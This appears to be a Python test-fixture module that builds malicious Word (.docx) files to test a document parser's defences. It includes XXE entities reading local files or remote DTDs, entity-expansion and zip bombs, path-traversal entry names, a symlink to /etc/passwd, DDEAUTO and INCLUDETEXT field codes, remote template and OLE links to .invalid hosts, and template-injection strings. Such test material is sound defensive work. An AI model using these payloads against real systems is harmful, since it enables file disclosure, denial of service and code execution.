"""Files that nobody should send: small on the disk, harmless by design, each naming what must become of it.

Every bomb is bounded, every address ends in .invalid.
"""

import io
import struct
import zipfile

from tests.storage.builders.word_file import (
    HEAD,
    NAMESPACES,
    TYPES,
    cell,
    document,
    drawing,
    escaped,
    field,
    par,
    part,
    png,
    relation,
    relations,
    row,
    run,
    table,
    word,
    zipped,
)

CASE = (
    "“两本台账”办好村里事",
    "申报单位：青山县白石镇党委",
    "一、背景",
    "白石镇有11个村，过去办事没有台账。",
    "二、做法",
    "（一）记台账。（二）抓督办。",
    "三、成效",
    "办结实事903件。",
    "四、启示",
    "件件有着落，事事有回音。",
)
BODY = tuple(par(text) for text in CASE)
PLAIN = document(*BODY)
SECRET = "root-of-all"  # what a file outside holds and no reading may show
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def declared(declaration, text):
    """Return document.xml with a document type declaration and a paragraph that uses it."""
    used = f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    return PLAIN.replace(HEAD, HEAD + declaration).replace("<w:body>", used)


def laughs():
    entities = "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    return word(main=declared(f'<!DOCTYPE d [<!ENTITY a "哈哈哈哈">{entities}]>', "&j;"))


def quadratic():
    return word(main=declared(f'<!DOCTYPE d [<!ENTITY a "{"炸" * 20000}">]>', "&a;" * 20000))


def outside(path):
    return word(main=declared(f'<!DOCTYPE d [<!ENTITY x SYSTEM "{path.as_uri()}">]>', "&x;"))


def outside_in_styles(path):
    styles = f'{HEAD}<!DOCTYPE d [<!ENTITY x SYSTEM "{path.as_uri()}">]><w:styles {NAMESPACES}>&x;</w:styles>'
    return word(*BODY, rels=[relation("s", "styles", "styles.xml")], parts={"word/styles.xml": styles})


def outside_in_utf16(path):
    text = declared(f'<!DOCTYPE d [<!ENTITY x SYSTEM "{path.as_uri()}">]>', "&x;")
    return word(main=text.replace("UTF-8", "UTF-16").encode("utf-16"))


def remote_dtd():
    return word(main=declared('<!DOCTYPE d SYSTEM "http://xxe.invalid/e.dtd">', "x"))


def bomb(name, size=200 << 20):
    """Return a package whose part `name` unpacks to `size` bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", TYPES)
        package.writestr("_rels/.rels", relations(relation("rId1", "officeDocument", "word/document.xml")))
        if name != "word/document.xml":
            package.writestr("word/document.xml", PLAIN)
        with package.open(name, "w") as stream:
            for _ in range(size >> 20):
                stream.write(b" " * (1 << 20))
    return buffer.getvalue()


def many_parts(count=30_000):
    return word(*BODY, parts={f"word/x/{number}.xml": b"" for number in range(count)})


def deep(levels=100_000):
    return word("<w:sdt><w:sdtContent>" * levels + par("底") + "</w:sdtContent></w:sdt>" * levels)


def climbing():
    names = ("../../evil.txt", "..\\..\\evil.txt", "/evil.txt", "C:\\evil.txt", "word/../../evil.txt")
    return word(*BODY, parts=dict.fromkeys(names, b"<evil/>"))


def with_link():
    buffer = io.BytesIO(word(*BODY))
    with zipfile.ZipFile(buffer, "a") as package:
        link = zipfile.ZipInfo("word/media/link")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def swapped(old, new):
    return word(*BODY).replace(old, new)


def damaged_stream():
    data = bytearray(word(*BODY))
    at = data.find(b"word/document.xml") + 40
    data[at] ^= 0xFF
    data[at + 7] ^= 0xFF
    return bytes(data)


def truncated():
    whole = word(*BODY)
    return whole[: len(whole) // 2]


def directory_lost():
    whole = word(*BODY)
    return whole[: whole.rfind(b"PK\x01\x02")]


def cut_inside():
    return word(main=PLAIN[: len(PLAIN) * 2 // 3])


def bad_bytes():
    data = PLAIN.encode()
    at = data.find("白石镇".encode())
    return word(main=data[:at] + b"\xff\xfe\x80" + data[at:])


def encrypted():
    data = bytearray(word(*BODY))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def ole(*streams):
    """Return the header of an OLE file and a directory that names streams; nothing behind it."""
    header = OLE + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(478)
    return header + b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in streams)


def fields():
    codes = (
        'DDEAUTO c:\\\\windows "/k calc"',
        'INCLUDETEXT "file:///etc/passwd"',
        'INCLUDEPICTURE "http://t.invalid/a"',
    )
    return word(*BODY, *(par(field(code, "域结果")) for code in codes))


def monstrous_picture():
    rels = [relation("p", "image", "media/i.png")]
    return word(*BODY, par(drawing("p")), rels=rels, parts={"word/media/i.png": png(30000, 7500)})


def remote_things():
    rels = [
        relation("p", "image", "http://tracker.invalid/p.png", external=True),
        relation("o", "oleObject", "\\\\evil.invalid\\share\\a.xls", external=True),
        relation("t", "attachedTemplate", "http://template.invalid/x.dotm", external=True),
    ]
    return word(*BODY, par(drawing("p", "link")), rels=rels)


def template_code():
    tricks = ("{{ 7*7 }}", "{% for i in range(10**9) %}x{% endfor %}", "${7*7}", "{{", "%}")
    header = part("hdr", par(tricks[1]))
    rels = [relation("h", "header", "header1.xml")]
    return word(*BODY, *map(par, tricks), rels=rels, parts={"word/header1.xml": header})


def long_paragraph(runs=20_000):
    return word("<w:p>" + "<w:r><w:t>字</w:t></w:r>" * runs + "</w:p>", *BODY)


def long_table(rows=4_000):
    return word("<w:tbl>" + "".join(row([str(n), "单元格"]) for n in range(rows)) + "</w:tbl>", *BODY)


def empty_elements():
    return word("<w:p/>" * 1000, "<w:tbl/><w:tbl><w:tr/></w:tbl><w:sdt/><w:p><w:r/></w:p>", *BODY)


def huge_attribute():
    return word(f'<w:p w:rsidR="{"A" * 9_000_000}"/>', *BODY)


def wide_spans():
    return word(table([("甲", '<w:gridSpan w:val="2147483647"/>'), "乙"]), *BODY)


def looping_styles():
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{a}"><w:name w:val="{a}"/><w:basedOn w:val="{b}"/></w:style>'
        for a, b in (("a", "b"), ("b", "a"))
    )
    blocks = [f'<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr>{run(escaped(CASE[0]))}</w:p>', *BODY[1:]]
    parts = {"word/styles.xml": part("styles", styles)}
    return word(*blocks, rels=[relation("s", "styles", "styles.xml")], parts=parts)


def sheet():
    return zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})


def nested_boxes(levels=200):
    inner = par("最里层") if levels else ""
    for _ in range(levels):
        inner = f"<w:p><w:r><w:drawing><w:txbxContent>{inner}</w:txbxContent></w:drawing></w:r></w:p>"
    return word(*BODY, inner)


def nested_cells(levels=40):
    inner = par("最里层")
    for _ in range(levels):
        inner = f"<w:tbl><w:tr>{cell('旁')}{cell(inner + '<w:p/>')}</w:tr></w:tbl>"
    return word(*BODY, inner)


TEXT_TAGS = (
    "p r t tbl tr tc tcPr gridSpan vMerge pPr numPr numId ilvl pStyle jc outlineLvl rPr b sz vanish ins del"
    " moveTo moveFrom sdt sdtContent hyperlink fldChar instrText br tab sym drawing pict txbxContent ruby"
    " footnoteReference altChunk rubyBase delText trPr gridBefore fldSimple"
)
LIST_TAGS = "abstractNum num lvl lvlText numFmt start lvlRestart lvlOverride isLgl pStyle abstractNumId"
STYLE_TAGS = "style name basedOn pPr rPr numPr numId ilvl outlineLvl sz b jc vanish docDefaults"
VALUES = ("1", "0", "-1", "9999999999", "²", "restart", "center", "x", "", "true", "%1.", "chineseCounting")
ATTRIBUTES = (
    *(f'w:val="{value}"' for value in VALUES),
    *(f'w:fldCharType="{kind}"' for kind in ("begin", "separate", "end")),
    *(
        'w:id="2"',
        'w:styleId="1"',
        'w:numId="1"',
        'w:abstractNumId="1"',
        'w:ilvl="x"',
        'r:embed="p"',
        'w:char="zz"',
    ),
)
NUMBERED = '<w:p><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>编号</w:t></w:r></w:p>'
RELATED = [
    relation("n", "numbering", "numbering.xml"),
    relation("s", "styles", "styles.xml"),
    relation("f", "footnotes", "footnotes.xml"),
    relation("p", "image", "media/a.png"),
]
PARTS = {
    "word/numbering.xml": part("numbering", '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'),
    "word/styles.xml": part(
        "styles", '<w:style w:type="paragraph" w:styleId="1"><w:name w:val="甲"/></w:style>'
    ),
    "word/footnotes.xml": part("footnotes", f'<w:footnote w:id="2">{par("脚注")}</w:footnote>'),
    "word/media/a.png": png(4, 4),
}


def thicket(random, tags, depth):
    """Return well-formed XML of these tags, nested and furnished at random."""
    tag = random.choice(tags.split())
    chosen = {a.split("=")[0]: a for a in random.sample(ATTRIBUTES, random.randint(0, 3))}
    inner = "字" if tag in ("t", "instrText", "delText") else ""
    if depth and not inner:
        inner = "".join(thicket(random, tags, depth - 1) for _ in range(random.randint(0, 3)))
    return f"<w:{tag} {' '.join(chosen.values())}>{inner}</w:{tag}>"
